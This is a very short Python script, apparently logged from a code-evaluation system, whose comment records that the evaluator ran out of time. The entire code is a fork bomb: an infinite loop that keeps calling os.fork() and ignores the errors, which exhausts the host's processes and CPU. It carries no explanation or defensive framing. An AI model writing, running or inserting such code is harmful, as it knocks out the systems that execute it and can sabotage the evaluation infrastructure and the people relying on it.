# evaluator_error: ran out of time
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
